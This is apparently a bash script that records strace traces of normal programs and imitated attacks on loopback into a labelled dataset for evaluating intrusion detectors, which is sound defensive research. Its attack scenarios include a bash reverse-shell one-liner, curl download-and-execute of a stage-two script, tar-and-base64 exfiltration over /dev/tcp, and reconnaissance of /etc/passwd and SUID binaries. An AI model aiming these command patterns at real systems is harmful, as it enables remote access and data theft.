#!/usr/bin/env bash
# Records normal and attack-like activity on this machine with strace, one file per process, into a
# trace folder (labels.csv + gzipped strace logs) that the `trace-folder` dataset reads.
#
#   tools/record-traces/record.sh OUT_DIR [REPETITIONS]
#
# Every network connection goes to 127.0.0.1 only: a python3 http.server and a small python3
# "attacker" listener are started here, untraced. The attack-like scenarios are harmless imitations of
# real behaviour patterns (a reverse shell that runs a few read-only commands, download-and-execute of a
# script that only reads system information, exfiltration of a scratch folder to the local listener,
# reconnaissance commands); they change nothing outside a scratch folder under /tmp.
#
# strace runs with -ff (one log per process), -tt (wall-clock timestamps) and -s 0 (no string contents,
# so file contents and arguments never reach the logs; paths still do). Normal scenarios: repetitions
# 1..TRAIN_REPS go to the train split, the rest to test; "unseen normal" scenarios (ordinary work that
# training never shows) and attack scenarios always go to test.
set -euo pipefail

out=${1:?usage: record.sh OUT_DIR [REPETITIONS]}
reps=${2:-5}
train_reps=${TRAIN_REPS:-3}
command -v strace >/dev/null || { echo "strace not found: apt-get install -y strace" >&2; exit 1; }
if [ -e "$out" ]; then echo "$out exists; choose a new folder" >&2; exit 1; fi

scratch=$(mktemp -d /tmp/record-traces.XXXXXX)
raw="$scratch/raw"
www="$scratch/www"
loot="$scratch/loot"
mkdir -p "$raw" "$www" "$loot" "$out"
http_port=${HTTP_PORT:-18080}
shell_port=${SHELL_PORT:-18081}
drop_port=${DROP_PORT:-18082}
pids=()
cleanup() {
    for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
    rm -rf "$scratch"
}
trap cleanup EXIT

# --- loopback services (untraced) -----------------------------------------------------------------
for i in $(seq 1 20); do head -c $((i * 2000)) /usr/share/common-licenses/GPL-3 > "$www/page$i.html"; done
cat > "$www/payload.sh" <<'PAYLOAD'
#!/bin/sh
# a "second stage": reads system information and leaves a marker in its own scratch folder
id; uname -a; hostname; cat /etc/os-release >/dev/null; ls -la /tmp >/dev/null
echo done > "${SCRATCH:-/tmp}/stage2.marker"
PAYLOAD
(cd "$www" && exec python3 -m http.server "$http_port" --bind 127.0.0.1 >/dev/null 2>&1) & pids+=($!)

# The "attacker" end: for each reverse-shell connection, send a few read-only commands and read the
# answers; for each exfiltration connection, read everything and discard it.
cat > "$scratch/listener.py" <<'LISTENER'
import socket, sys, threading
def serve(port, handler):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", port)); s.listen(8)
    while True:
        c, _ = s.accept(); threading.Thread(target=handler, args=(c,), daemon=True).start()
def shell(c):
    c.sendall(b"id; uname -a; pwd; ls -la; cat /etc/passwd | wc -l; ps -ef | head -5; exit\n")
    while c.recv(65536): pass
    c.close()
def drop(c):
    while c.recv(65536): pass
    c.close()
threading.Thread(target=serve, args=(int(sys.argv[1]), shell), daemon=True).start()
serve(int(sys.argv[2]), drop)
LISTENER
/usr/bin/env python3 "$scratch/listener.py" "$shell_port" "$drop_port" & pids+=($!)
for i in $(seq 1 50); do
    (exec 3<>"/dev/tcp/127.0.0.1/$http_port") 2>/dev/null && break; sleep 0.1
done

# --- scenarios: name -> shell command run under strace --------------------------------------------
# $R is the repetition number, so repetitions differ a little (other files, other sizes).
declare -A normal=(
    [coreutils]='ls -la /usr/bin | head -50 >/dev/null; wc -l /etc/services; sort /etc/services | uniq | tail -3 >/dev/null; date; du -sh /usr/share/doc 2>/dev/null | cat >/dev/null'
    [text]='grep -c tcp /etc/services; sed -n "1,${R}0p" /etc/services | awk "{print \$1}" | sort | head >/dev/null; cut -d: -f1 /etc/passwd | tr a-z A-Z >/dev/null'
    [files]='d=$(mktemp -d); cp -r /usr/share/common-licenses "$d/"; find "$d" -type f | xargs sha256sum >/dev/null; tar czf "$d.tgz" -C "$d" .; tar tzf "$d.tgz" >/dev/null; gzip -c /etc/services >"$d/s.gz"; rm -rf "$d" "$d.tgz"'
    [shell]='for i in $(seq 1 $((R*3))); do x=$((i*i)); echo "$x" >/dev/null; done; v=$(basename /a/b/c); test -d /tmp && echo ok >/dev/null; printf "%s\n" a b c | while read l; do echo "$l"; done >/dev/null'
    [python]='python3 -c "import json,os; print(len(json.dumps({k: v for k, v in os.environ.items()})))" >/dev/null; python3 -c "import hashlib; print(hashlib.sha256(open(\"/etc/services\",\"rb\").read()).hexdigest())" >/dev/null'
    [webclient]='curl -s "http://127.0.0.1:'"$http_port"'/page$R.html" -o /dev/null; curl -sI "http://127.0.0.1:'"$http_port"'/page$((R+5)).html" >/dev/null; wget -q -O /dev/null "http://127.0.0.1:'"$http_port"'/page$((R+10)).html"'
    [processes]='ps -ef >/dev/null; cat /proc/loadavg >/dev/null; uptime >/dev/null; free >/dev/null 2>&1 || true; sleep 0.$R'
)
# Normal work that never occurs in training (all test): ordinary programs the detectors have not seen,
# as on a real machine, where normal behaviour keeps changing. Without these the test normals would be
# repetitions of the training scenarios and the false-alarm rates meaningless.
declare -A unseen_normal=(
    [devtools]='d=$(mktemp -d); cp /etc/services "$d/a"; sed "s/tcp/TCP/" "$d/a" > "$d/b"; diff "$d/a" "$d/b" > "$d/p" || true; cmp -s "$d/a" "$d/b" || md5sum "$d/a" "$d/b" >/dev/null; rm -rf "$d"'
    [compress]='d=$(mktemp -d); head -c $((R*20000)) /usr/share/common-licenses/GPL-3 > "$d/f"; xz -k "$d/f"; bzip2 -k "$d/f"; xz -dc "$d/f.xz" | cmp - "$d/f"; rm -rf "$d"'
    [perl]='perl -e "my %c; while (<>) { \$c{(split)[0]}++ if /tcp/ } print scalar(keys %c), qq(\n)" /etc/services >/dev/null'
    [sysinfo]='df -h >/dev/null; stat /etc/hostname >/dev/null; nl /etc/shells | tac >/dev/null; od -c /etc/hostname | head -2 >/dev/null'
)
declare -A attack=(
    [reverse_shell]='bash -c "bash -i >& /dev/tcp/127.0.0.1/'"$shell_port"' 0>&1" 2>/dev/null'
    [download_execute]='cd "$SCRATCH" && curl -s "http://127.0.0.1:'"$http_port"'/payload.sh" -o .x && chmod +x .x && ./.x >/dev/null && rm -f .x'
    [exfiltration]='mkdir -p "$SCRATCH/docs" && cp /etc/services /etc/protocols "$SCRATCH/docs/" && tar czf - -C "$SCRATCH" docs | base64 > "$SCRATCH/blob" && cat "$SCRATCH/blob" > /dev/tcp/127.0.0.1/'"$drop_port"' && rm -rf "$SCRATCH/docs" "$SCRATCH/blob"'
    [reconnaissance]='id; uname -a; cat /etc/passwd /etc/group /etc/os-release >/dev/null; ls -la /home /root 2>/dev/null >/dev/null; find /usr/bin /usr/sbin -perm -4000 2>/dev/null >/dev/null; cat /proc/net/tcp >/dev/null; ps -ef >/dev/null; env >/dev/null'
)

record() { # record KIND NAME REP COMMAND
    local kind=$1 name=$2 rep=$3 command=$4 dir="$raw/$1/$2-$3"
    mkdir -p "$dir" "$loot/$name-$rep"
    # A clean, fixed environment: no user rc files (HOME is the scratch folder), system PATH only (no
    # pyenv-style shims that would add dozens of helper processes to every python3 call).
    env -i HOME="$loot/$name-$rep" PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin LANG=C.UTF-8 TERM=dumb \
        R="$rep" SCRATCH="$loot/$name-$rep" strace -f -ff -tt -s 0 -o "$dir/p" bash -c "$command" >/dev/null 2>&1 \
        || echo "note: $name-$rep exited non-zero (recorded anyway)" >&2
}

for rep in $(seq 1 "$reps"); do
    for name in $(printf '%s\n' "${!normal[@]}" | sort); do record normal "$name" "$rep" "${normal[$name]}"; done
    for name in $(printf '%s\n' "${!unseen_normal[@]}" | sort); do record unseen_normal "$name" "$rep" "${unseen_normal[$name]}"; done
    for name in $(printf '%s\n' "${!attack[@]}" | sort); do record attack "$name" "$rep" "${attack[$name]}"; done
done

# --- trace folder: one gzipped strace log per process, labels.csv ----------------------------------
# Files are named <scenario>-<rep>.<n>.strace.gz with n the process's order of creation within the
# recording (pids are not stable between recordings).
echo "file,split,label,family" > "$out/labels.csv"
for kind in normal unseen_normal attack; do
    for dir in $(ls -d "$raw/$kind"/* | sort -V); do
        run=$(basename "$dir"); rep=${run##*-}
        mkdir -p "$out/$kind"
        n=0
        # Numeric order of the pid suffix (creation order): sorting whole paths on their second dot-field
        # breaks when the folder's path has a dot (mktemp's), giving text order instead.
        for pid in $(ls "$dir" | sed -n 's/^p\.\([0-9][0-9]*\)$/\1/p' | sort -n); do
            log="$dir/p.$pid"
            n=$((n + 1))
            file="$kind/$run.$n.strace.gz"
            gzip -9 -n -c "$log" > "$out/$file"
            if [ "$kind" = normal ]; then
                split=$([ "$rep" -le "$train_reps" ] && echo train || echo test)
                echo "$file,$split,normal," >> "$out/labels.csv"
            elif [ "$kind" = unseen_normal ]; then
                echo "$file,test,normal," >> "$out/labels.csv"
            else
                echo "$file,test,attack,${run%-*}" >> "$out/labels.csv"
            fi
        done
    done
done
echo "recorded $(($(wc -l < "$out/labels.csv") - 1)) processes into $out ($(du -sh "$out" | cut -f1))" >&2
